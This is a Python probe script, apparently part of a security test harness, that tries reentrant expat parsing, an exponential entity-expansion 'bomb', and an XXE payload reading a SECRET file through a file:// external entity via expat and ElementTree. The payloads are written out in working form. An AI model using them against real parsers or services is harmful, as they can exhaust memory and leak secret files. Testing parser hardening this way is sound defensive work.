from xml.parsers import expat
p = expat.ParserCreate()
def start(name, attributes):
    attempt(p.Parse, b"<b/>")
    attempt(p.ExternalEntityParserCreate, None)
p.StartElementHandler = start
attempt(p.Parse, b"<a><b></b></a>", True)
bomb = b"<!DOCTYPE x [<!ENTITY a '" + b"x" * 1000 + b"'>" + b"".join(b"<!ENTITY %c '%s'>" % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9)) + b"]><x>&j;</x>"
attempt(expat.ParserCreate().Parse, bomb, True)
outside = ("<!DOCTYPE x [<!ENTITY s SYSTEM 'file://%s'>]><x>&s;</x>" % SECRET).encode()
said = []
q = expat.ParserCreate()
q.CharacterDataHandler = tell
q.ExternalEntityRefHandler = lambda *args: steal(lambda: open(SECRET)) or 1
attempt(q.Parse, outside, True)
import xml.etree.ElementTree as tree, xml.sax
tell(attempt(lambda: tree.tostring(tree.fromstring(outside))))
